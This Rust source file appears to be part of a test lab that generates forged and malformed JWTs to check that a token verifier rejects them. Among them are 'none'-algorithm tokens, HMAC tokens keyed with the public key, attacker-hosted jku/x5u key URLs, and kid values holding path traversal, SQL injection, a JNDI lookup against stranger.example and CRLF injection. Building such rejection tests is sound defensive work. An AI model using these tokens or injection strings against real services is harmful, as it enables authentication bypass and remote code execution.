//! Faults of the JOSE header: algorithms, keys of the token's own choice, parameters that change what is signed.

use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::json;

use super::{List, at, encode, parts, preceded};
use crate::lab::Result;

const HEADER: &str = "token_header";
const ALGORITHM: &str = "token_algorithm";
const SIGNATURE: &str = "token_signature";
const UNKNOWN_KEY: &str = "token_unknown_key";
const TYPE: &str = "token_type";

pub(super) fn add(list: &mut List<'_>) -> Result<()> {
    parameters(list)?;
    kids(list)?;
    unsigned(list)?;
    other_algorithms(list)?;
    symmetric(list)?;
    own_keys(list)?;
    broken(list)
}

fn parameters(list: &mut List<'_>) -> Result<()> {
    for (code, name, value) in [
        (HEADER, "crit", json!(["exp"])),
        // RFC 7515 section 4.1.11: not empty, and nothing in it that is not understood.
        (HEADER, "crit", json!([])),
        (HEADER, "crit", json!(["urn:x"])),
        (HEADER, "crit", json!(null)),
        // RFC 7797 section 6: without `crit` nobody would notice that something else is signed.
        (HEADER, "b64", json!(false)),
        (HEADER, "b64", json!(true)),
        (HEADER, "zip", json!("DEF")),
        (HEADER, "cty", json!("JWT")),
        (HEADER, "cty", json!("json")),
        (HEADER, "alg", json!(null)),
        (HEADER, "alg", json!(["PS256"])),
        (HEADER, "typ", json!(1)),
        (HEADER, "typ", json!(null)),
        (TYPE, "typ", json!("")),
        (TYPE, "typ", json!("dpop+jwt")),
        (TYPE, "typ", json!("logout+jwt")),
        (TYPE, "typ", json!("JWT ")),
        // Names of algorithms have case (RFC 7515 section 4.1.1).
        (ALGORITHM, "alg", json!("ps256")),
        (ALGORITHM, "alg", json!("PS256 ")),
        (ALGORITHM, "alg", json!("")),
        (ALGORITHM, "alg", json!("HS256")),
        (ALGORITHM, "alg", json!("ES256")),
        (ALGORITHM, "alg", json!("RSA-OAEP")),
    ] {
        list.header_with(code, name, value)?;
    }
    for name in ["alg", "typ"] {
        let mut header = list.signer().header();
        header.as_object_mut().and_then(|header| header.remove(name));
        let code = if name == "alg" { HEADER } else { TYPE };
        list.raw(code, &format!("no {name}"), header.to_string(), claims(list))?;
    }
    for member in [r#""alg":"PS256""#, r#""kid":"key-1""#, r#""x":1,"x":1"#, r#""typ":"JWT""#] {
        let header = preceded(member, &list.signer().header());
        list.raw(HEADER, &format!("doubled {member}"), header, claims(list))?;
    }
    Ok(())
}

fn kids(list: &mut List<'_>) -> Result<()> {
    for kid in [
        "",
        " key-1",
        "KEY-1",
        "key-1\u{0}",
        "../../key-1",
        "/dev/null",
        "key-1' OR '1'='1",
        "https://stranger.example/jwks",
        "${jndi:ldap://stranger.example}",
        "key-1\r\nx: y",
        "ключ",
    ] {
        list.header_with(UNKNOWN_KEY, "kid", json!(kid))?;
    }
    list.header_with(UNKNOWN_KEY, "kid", json!("k".repeat(1000)))?;
    for kid in [json!(1), json!(null), json!(["key-1"]), json!({}), json!("k".repeat(2000))] {
        list.header_with(HEADER, "kid", kid)?;
    }
    Ok(())
}

fn unsigned(list: &mut List<'_>) -> Result<()> {
    let good = list.good()?;
    let [_, payload, signature] = parts(&good)?;
    for name in ["none", "None", "NONE", "nOnE"] {
        let header = encode(json!({"alg": name, "typ": "at+jwt", "kid": "key-1"}).to_string());
        for signature in ["", signature, "AA"] {
            let length = signature.len();
            let fault = format!("alg {name}, a signature of {length}");
            list.add(fault, ALGORITHM, format!("{header}.{payload}.{signature}"));
        }
    }
    Ok(())
}

fn other_algorithms(list: &mut List<'_>) -> Result<()> {
    for (algorithm, name, code) in [
        (Algorithm::RS256, "RS256", ALGORITHM),
        (Algorithm::RS512, "RS512", ALGORITHM),
        (Algorithm::PS384, "PS384", ALGORITHM),
        (Algorithm::PS512, "PS512", ALGORITHM),
        (Algorithm::RS256, "PS256", SIGNATURE),
        (Algorithm::PS384, "PS256", SIGNATURE),
    ] {
        let header = list.header_but("alg", json!(name));
        let text = list.signer().sign_as(algorithm, &header.to_string(), &claims(list))?;
        list.add(format!("signed with {algorithm:?}, called {name}"), code, text);
    }
    Ok(())
}

/// The public key as the secret of an HMAC, in each form in which it is published.
fn symmetric(list: &mut List<'_>) -> Result<()> {
    let set = list.signer().jwks();
    let key = at(&set, "/keys/0").clone();
    let modulus = at(&key, "/n").as_str().unwrap_or_default().to_owned();
    for secret in [set.to_string(), key.to_string(), modulus] {
        for name in ["HS256", "PS256"] {
            let header = list.header_but("alg", json!(name));
            let signed = format!("{}.{}", encode(header.to_string()), encode(claims(list)));
            let secret = EncodingKey::from_secret(secret.as_bytes());
            let mac = jsonwebtoken::crypto::sign(signed.as_bytes(), &secret, Algorithm::HS256)?;
            let code = if name == "HS256" { ALGORITHM } else { SIGNATURE };
            list.add(
                format!("HMAC with the public key, called {name}"),
                code,
                format!("{signed}.{mac}"),
            );
        }
    }
    Ok(())
}

/// A stranger's signature, and where to find the stranger's key.
fn own_keys(list: &mut List<'_>) -> Result<()> {
    let stranger = list.material.stranger.clone();
    let key = at(&stranger.jwks(), "/keys/0").clone();
    for (name, value) in [
        ("jwk", key),
        ("jku", json!("https://stranger.example/jwks")),
        ("x5u", json!("https://stranger.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t#S256", json!(list.material.other.to_text())),
    ] {
        let header = list.header_but(name, value);
        let text = stranger.sign(&header, &list.material.claims)?;
        list.add(format!("a stranger's key by {name}"), SIGNATURE, text);
    }
    Ok(())
}

fn broken(list: &mut List<'_>) -> Result<()> {
    let header = list.signer().header();
    let deep = format!(r#""x":{}{}"#, "[".repeat(500), "]".repeat(500));
    for (fault, text) in [
        ("header cut", header.to_string().trim_end_matches('}').to_owned()),
        ("header with something after it", format!("{header} 1")),
        ("header twice", format!("{header}{header}")),
        ("header that nests deeply", preceded(&deep, &header)),
        ("header with a comment", format!("{header}/* */")),
    ] {
        list.raw(HEADER, fault, text, claims(list))?;
    }
    let invalid =
        [header.to_string().trim_end_matches('}').as_bytes(), b",\"x\":\"\xff\"}"].concat();
    list.raw(HEADER, "header that is no UTF-8", invalid, claims(list))
}

fn claims(list: &List<'_>) -> String {
    list.material.claims.to_string()
}
